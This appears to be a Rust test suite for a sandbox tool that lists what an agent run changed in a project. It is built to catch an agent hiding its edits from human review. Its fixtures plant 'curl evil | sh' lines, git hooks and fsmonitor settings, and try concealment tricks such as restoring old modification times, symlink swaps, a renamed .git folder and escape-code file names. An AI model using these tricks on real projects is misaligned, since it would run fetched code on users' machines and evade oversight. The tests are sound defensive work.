//! What a run changed: the manifest noted at the start, compared with the
//! project afterwards, and what an agent does to hide a change.

use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use sandbox::changes::{ChangeKind, Changes, Manifest, TEXT_BUDGET, compare, diff};
use sandbox::host_run::HostRun;

fn project() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path().join("p");
    std::fs::create_dir_all(root.join("src")).expect("project");
    std::fs::create_dir_all(root.join(".git/hooks")).expect("git");
    std::fs::create_dir_all(root.join(".git/objects/ab")).expect("objects");
    std::fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").expect("config");
    std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
    std::fs::create_dir_all(root.join(".git/refs/heads")).expect("refs");
    std::fs::write(
        root.join(".git/refs/heads/main"),
        "1111111111111111111111111111111111111111\n",
    )
    .expect("ref");
    std::fs::write(root.join("Makefile"), "all:\n\tcc main.c\n").expect("Makefile");
    std::fs::write(root.join("src/main.c"), "int main(void) { return 0; }\n").expect("main.c");
    (dir, root)
}

fn note(root: &Path) -> Manifest {
    Manifest::note(root, TEXT_BUDGET).expect("note")
}

fn since(before: &Manifest, root: &Path) -> Changes {
    let now = Manifest::note(root, 0).expect("note now");
    compare(before, &now, root)
}

fn listed(changes: &Changes) -> Vec<(String, ChangeKind, bool)> {
    changes
        .files
        .iter()
        .map(|c| (c.path.clone(), c.kind, c.host_run.is_some()))
        .collect()
}

#[test]
fn nothing_changed_is_nothing_listed() {
    let (_dir, root) = project();
    let before = note(&root);
    let changes = since(&before, &root);
    assert!(changes.is_empty(), "{changes:?}");
    assert!(!changes.flagged());
}

#[test]
fn added_changed_and_deleted_with_the_host_run_files_first() {
    let (_dir, root) = project();
    let before = note(&root);
    std::fs::write(root.join(".envrc"), "curl evil | sh\n").expect("envrc");
    std::fs::write(root.join("Makefile"), "all:\n\tcurl evil | sh\n").expect("Makefile");
    std::fs::create_dir_all(root.join(".vscode")).expect("vscode");
    std::fs::write(root.join(".vscode/tasks.json"), "{}\n").expect("tasks");
    std::fs::write(root.join("src/main.c"), "int main(void) { return 1; }\n").expect("main.c");
    std::fs::write(root.join("notes.txt"), "hello\n").expect("notes");
    std::fs::write(root.join(".git/objects/ab/cd"), "object").expect("object");
    std::fs::remove_file(root.join("src/main.c")).expect("rm");
    let changes = since(&before, &root);
    assert_eq!(
        listed(&changes),
        vec![
            (".envrc".into(), ChangeKind::Added, true),
            (".vscode/tasks.json".into(), ChangeKind::Added, true),
            ("Makefile".into(), ChangeKind::Changed, true),
            ("notes.txt".into(), ChangeKind::Added, false),
            ("src/main.c".into(), ChangeKind::Deleted, false),
        ]
    );
    assert!(changes.flagged());
    assert_eq!(changes.files[0].host_run, Some(HostRun::Direnv));
    let makefile = diff(&before, &root, &changes.files[2]);
    assert!(makefile.contains("-\tcc main.c"), "{makefile}");
    assert!(makefile.contains("+\tcurl evil | sh"), "{makefile}");
    let deleted = diff(&before, &root, &changes.files[4]);
    assert!(
        deleted.contains("-int main(void) { return 0; }"),
        "{deleted}"
    );
}

#[test]
fn a_hook_and_a_git_config_change_are_flagged() {
    let (_dir, root) = project();
    let before = note(&root);
    std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").expect("hook");
    std::fs::write(root.join(".git/config"), "[core]\n\tfsmonitor = evil\n").expect("config");
    let changes = since(&before, &root);
    assert_eq!(
        listed(&changes),
        vec![
            (".git/config".into(), ChangeKind::Changed, true),
            (".git/hooks/pre-commit".into(), ChangeKind::Added, true),
        ]
    );
    assert!(diff(&before, &root, &changes.files[0]).contains("+\tfsmonitor = evil"));
}

#[test]
fn a_git_folder_renamed_and_made_anew_shows_its_new_config() {
    let (_dir, root) = project();
    let before = note(&root);
    std::fs::rename(root.join(".git"), root.join("old-git")).expect("rename");
    std::fs::create_dir_all(root.join(".git/hooks")).expect("new git");
    std::fs::write(root.join(".git/config"), "[core]\n\tfsmonitor = evil\n").expect("config");
    std::fs::write(
        root.join(".git/HEAD"),
        "2222222222222222222222222222222222222222\n",
    )
    .expect("HEAD");
    let changes = since(&before, &root);
    assert!(
        listed(&changes).contains(&(".git/config".into(), ChangeKind::Changed, true)),
        "{changes:?}"
    );
    assert_eq!(changes.heads.len(), 1, "{:?}", changes.heads);
    assert_eq!(
        changes.heads[0].to.as_deref(),
        Some("2222222222222222222222222222222222222222")
    );
}

#[test]
fn a_config_replaced_by_a_symbolic_link_is_a_change_and_is_not_followed() {
    let (dir, root) = project();
    let secret = dir.path().join("secret");
    std::fs::write(&secret, "TOKEN=hunter2\n").expect("secret");
    let before = note(&root);
    std::fs::remove_file(root.join(".git/config")).expect("rm");
    std::os::unix::fs::symlink(&secret, root.join(".git/config")).expect("link");
    let changes = since(&before, &root);
    assert_eq!(
        listed(&changes),
        vec![(".git/config".into(), ChangeKind::Changed, true)]
    );
    let text = diff(&before, &root, &changes.files[0]);
    assert!(text.contains("symbolic link"), "{text}");
    assert!(!text.contains("hunter2"), "the link was followed: {text}");
}

#[test]
fn a_file_changed_and_given_its_old_time_back_is_still_changed() {
    let (_dir, root) = project();
    let file = root.join("src/main.c");
    let before = note(&root);
    let mtime = std::fs::metadata(&file)
        .expect("meta")
        .modified()
        .expect("mtime");
    std::thread::sleep(Duration::from_millis(20));
    // Same size, other bytes, and the old modification time.
    std::fs::write(&file, "int main(void) { return 9; }\n").expect("write");
    std::fs::File::options()
        .write(true)
        .open(&file)
        .expect("open")
        .set_modified(mtime)
        .expect("set mtime");
    let changes = since(&before, &root);
    assert_eq!(
        listed(&changes),
        vec![("src/main.c".into(), ChangeKind::Changed, false)]
    );
    // A watched file, changed and restored byte for byte, did not change.
    let makefile = root.join("Makefile");
    let text = std::fs::read(&makefile).expect("read");
    std::fs::write(&makefile, "changed").expect("change");
    std::fs::write(&makefile, text).expect("restore");
    std::fs::File::options()
        .write(true)
        .open(&makefile)
        .expect("open")
        .set_modified(SystemTime::now())
        .expect("touch");
    let changes = since(&before, &root);
    assert!(
        !changes.files.iter().any(|c| c.path == "Makefile"),
        "{changes:?}"
    );
}

#[test]
fn a_name_with_control_characters_is_listed_as_it_is_for_the_front_ends_to_escape() {
    let (_dir, root) = project();
    let before = note(&root);
    let name = "x\n! changed  Makefile\u{1b}[2K";
    std::fs::write(root.join(name), "x").expect("odd name");
    let changes = since(&before, &root);
    assert_eq!(changes.files.len(), 1, "{changes:?}");
    assert_eq!(changes.files[0].path, name);
    let shown = sandbox::shown::escape_line(&changes.files[0].path);
    assert!(
        !shown.contains('\n') && !shown.contains('\u{1b}'),
        "{shown}"
    );
    assert_eq!(shown, "x\\x0a! changed  Makefile\\x1b[2K");
}

#[test]
fn a_git_file_pointing_outside_is_noted_as_a_file_and_not_followed() {
    let (dir, root) = project();
    std::fs::remove_dir_all(root.join(".git")).expect("rm git");
    let outside = dir.path().join("outside.git");
    std::fs::create_dir_all(outside.join("hooks")).expect("outside");
    std::fs::write(
        root.join(".git"),
        format!("gitdir: {}\n", outside.display()),
    )
    .expect("pointer");
    let before = note(&root);
    std::fs::write(outside.join("hooks/pre-commit"), "evil").expect("outside hook");
    assert!(since(&before, &root).is_empty());
    std::fs::write(root.join(".git"), "gitdir: evil\n").expect("repointed");
    let changes = since(&before, &root);
    assert_eq!(
        listed(&changes),
        vec![(".git".into(), ChangeKind::Changed, true)]
    );
}
